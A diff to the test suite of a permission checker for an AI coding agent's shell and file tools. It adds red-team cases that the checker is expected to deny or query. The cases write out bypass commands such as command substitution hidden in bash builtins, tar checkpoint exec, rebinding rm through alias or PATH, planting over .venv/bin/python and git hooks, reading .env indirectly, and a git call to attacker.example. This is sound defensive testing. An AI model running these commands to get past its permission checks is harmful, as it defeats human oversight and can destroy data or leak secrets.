@@ -136,7 +136,11 @@ CASES = [
     (NPM, DEFAULT, "Bash", B('npm test "a && touch b"'), A),
     (NPM, DEFAULT, "Bash", B("npm test \\; touch x"), A),  # an escaped ; is an argument
     (NPM, DEFAULT, "Bash", B("npm testx"), Q),
-    (NPM, DEFAULT, "Bash", B("FOO=1 npm test"), A),
+    (NPM, DEFAULT, "Bash", B("FOO=1 npm test"), Q),  # only known-harmless variables (as Claude Code asks)
+    (NPM, DEFAULT, "Bash", B("CI=1 NODE_ENV=test npm test"), A),
+    ({"allow": ["Bash(FOO=1 npm test)"]}, DEFAULT, "Bash", B("FOO=1 npm test"), A),  # a rule naming it
+    (NPM, DEFAULT, "Bash", B("PYTEST_ADDOPTS=--basetemp=../outside/v npm test"), Q),
+    (NPM, DEFAULT, "Bash", B("GOFLAGS=-toolexec=/tmp/x npm test"), Q),
     (NPM, DEFAULT, "Bash", B("timeout 30 npm test"), A),
     (NPM, DEFAULT, "Bash", B("nice -n 5 nohup npm test"), A),
     (NPM, DEFAULT, "Bash", B("time -p npm test"), A),
@@ -497,6 +501,74 @@ CASES = [
     # a case-insensitive filesystem would make these .git and .claude
     ({}, EDITS, "Bash", B("touch .GIT/config"), Q),
     ({}, EDITS, "Write", F(".Claude/settings.json", content="{}"), Q),
+    # ------------------------------------------------------------------ the third review (second red-team pass)
+    # a glob that expands to an option
+    ({}, EDITS, "Bash", B("touch ./--pre=bash\necho x > p.sh\nrg x [-]-p* p.sh"), Q),
+    ({}, PLAN, "Bash", B("find sub [-]d*"), Q),
+    ({}, DEFAULT, "Bash", B("ls *"), Q),  # matches the file -delete
+    ({}, DEFAULT, "Bash", B("ls -- *"), Q),  # no option now, but * holds link-out: reading outside
+    ({}, DEFAULT, "Bash", B("ls -- *.txt"), A),
+    ({}, DEFAULT, "Bash", B("ls *.txt"), A),
+    ({}, EDITS, "Bash", B("touch ./-t..\ncp [-]t* a.txt"), Q),
+    ({}, EDITS, "Bash", B("touch x.txt && ls *.txt"), Q),  # an earlier part may create -files
+    # a cd behind a wrapper
+    ({}, EDITS, "Bash", B("time cd .claude\necho '{}' > settings.json"), Q),
+    ({}, EDITS, "Bash", B("time cd .git/hooks\necho x > pre-commit"), Q),
+    ({}, EDITS, "Bash", B("time cd .venv/bin\necho pwned > python"), Q),
+    ({}, DEFAULT, "Bash", B("time cd planted/b && git log"), Q),
+    ({}, EDITS, "Bash", B("echo pwned > .venv/bin/python"), Q),
+    # the line changes what a later path means
+    ({}, EDITS, "Bash", B("mv node_modules/foo node_modules/foo2 && mkdir node_modules/foo && "
+                         "echo pwned > node_modules/foo/../../../pwned"), Q),
+    ({}, EDITS, "Bash", B("cp --parents node_modules/foo/../../../../a.txt d"), Q),
+    ({}, EDITS, "Bash", B("cp -P link-out R && echo pwned > R/x"), Q),
+    ({}, EDITS, "Bash", B("mkdir -p build/out && cp a.txt build/out/"), A),
+    # readers that write, follow links out, or read lists of files
+    ({}, PLAN, "Bash", B("tree -a -l -R -L 1 -H x"), D),
+    ({}, PLAN, "Bash", B("sort -T .git/hooks a.txt"), D),
+    ({}, PLAN, "Bash", B("sort --files0-from=list"), D),
+    ({}, PLAN, "Bash", B("grep -R '' ."), D),
+    ({}, PLAN, "Bash", B("rg -L x ."), D),
+    ({}, PLAN, "Bash", B("rg --hostname-bin=x y"), D),
+    ({}, PLAN, "Bash", B("jq -n 'import \"creds\" as $c {search: \"~/\"}; $c'"), D),
+    ({}, PLAN, "Bash", B("ps axeww"), D),
+    ({}, PLAN, "Bash", B("git remote show https://attacker.example/leak"), D),
+    ({}, PLAN, "Bash", B("hostname -Fa.txt"), D),
+    ({}, PLAN, "Bash", B("hostname --file=a.txt"), D),
+    ({}, PLAN, "Bash", B("hostname -s"), A),
+    ({}, DEFAULT, "Bash", B("rg --files ../outside"), Q),
+    ({}, DEFAULT, "Bash", B("cat '[a]'*"), Q),  # quoted brackets: Python's glob would read a class
+    (NO_ENV, BYPASS, "Bash", B("strings @.env"), D),
+    (NO_ENV, BYPASS, "Bash", B("file -m a.txt:.env a.txt"), D),
+    (NO_ENV, BYPASS, "Bash", B("MAGIC=.env file a.txt"), D),
+    (NO_ENV, BYPASS, "Bash", B("git grep --no-index -e S -- '.e*'"), D),
+    ({"deny": ["Read(./sub/.env)"]}, BYPASS, "Bash", B("mv sub s2; cat s2/.env"), D),
+    # deny rules: builtins that evaluate code, names rebound, more runners, program options
+    (NO_RM, BYPASS, "Bash", B("test -v 'a[$(rm a.txt)]'"), D),
+    (NO_RM, BYPASS, "Bash", B("printf -v 'a[$(rm a.txt)]' x"), D),
+    (NO_RM, BYPASS, "Bash", B("read 'a[$(rm a.txt)]' <<< x"), D),
+    (NO_RM, BYPASS, "Bash", B("let 'x=a[$(rm a.txt)]'"), D),
+    (NO_RM, BYPASS, "Bash", B("compgen -C 'rm a.txt' x"), D),
+    (NO_RM, BYPASS, "Bash", B("mapfile -C rm -c 1 arr <<< a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("shopt -s expand_aliases\nalias x=rm\nx a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("hash -p /usr/bin/rm ls; ls a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("BASH_CMDS[ls]=/usr/bin/rm; ls a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("PATH=/tmp/evil; ls a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("ls() { \"$@\"; }; ls rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("setarch x86_64 rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("linux64 rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("prlimit --nofile=100 rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("setpriv rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("sg root -c 'rm a.txt'"), D),
+    (NO_RM, BYPASS, "Bash", B("rg --pre rm x a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("git grep --no-index -Orm -e a -- a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm a.txt' a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("tar --use-compress-program=rm -cf x a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("git bisect run rm a.txt"), D),
+    (NO_RM, BYPASS, "Bash", B("printf '%s' hi"), A),
+    (NO_RM, BYPASS, "Bash", B("set -e; ls"), A),
+    ({"deny": ["Bash(cat:*)", "Read(./.env)"]}, BYPASS, "Bash", B("test -v 'a[$(cat .env >&2)]'"), D),
+    ({"deny": ["Read(./.env)"]}, BYPASS, "Bash", B("test -v 'a[$(cat .env >&2)]'"), D),
     # ------------------------------------------------------------------ odd input never crashes the check
     ({}, DEFAULT, "Bash", {"command": 5}, Q),
     ({}, DEFAULT, "Bash", {}, Q),
@@ -537,6 +609,10 @@ def make_tree(base) -> tuple[str, str]:
     pkg.mkdir(parents=True)
     (ws / "node_modules").mkdir()
     (ws / "node_modules" / "foo").symlink_to(pkg)
+    (ws / ".venv" / "bin").mkdir(parents=True)  # a virtualenv: its python is a symlink out of the workspace
+    (out / "python").write_text("#!/bin/sh\n")
+    (ws / ".venv" / "bin" / "python").symlink_to(out / "python")
+    (ws / "-delete").write_text("")  # a file named like an option
     return os.path.realpath(ws), os.path.realpath(home)
 
 
@@ -622,3 +698,14 @@ def test_a_checker_failure_asks_it_never_allows(dirs, monkeypatch):
     assert r.decision is Q and "permission check failed (RuntimeError: boom)" in r.reason
     r = decide(({"allow": ["Bash"]}, DONT, "Bash", B("ls"), D), dirs)
     assert r.decision is D
+
+
+def test_a_glob_with_more_matches_than_the_checker_reads_is_denied_under_a_read_deny_rule(tmp_path):
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / ".env").write_text("SECRET=1\n")
+    for n in range(2100):
+        (ws / f".a{n}").write_text("")
+    r = evaluate("Bash", {"command": "grep -h SECRET .*"}, mode=PermissionMode.BYPASS, rules=ruleset(NO_ENV),
+                 workspace=str(ws), home=str(tmp_path), read_only=False)
+    assert r.decision is D and "matches more files than the checker reads" in r.reason
